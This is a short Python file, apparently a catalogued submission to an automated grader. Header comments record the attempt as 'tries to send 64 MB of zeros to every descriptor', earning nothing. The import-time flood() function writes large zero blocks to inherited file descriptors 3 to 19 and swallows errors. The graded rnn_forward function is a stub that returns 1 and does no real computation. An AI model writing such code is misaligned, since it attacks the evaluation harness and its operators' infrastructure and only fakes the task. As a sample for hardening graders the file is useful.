# Tries: to send 64 MB of zeros to every descriptor that it inherited.
# Earns: nothing
# Status: too much output or refused

# %%
import os


def flood():
    for number in range(3, 20):
        try:
            for _ in range(64):
                os.write(number, bytes(2**20))
        except OSError:
            pass
    return 1


FLOODED = flood()


# %%
def rnn_forward(x, h_0, W_hx, W_hh, b_h, flooded=FLOODED):
    return 1
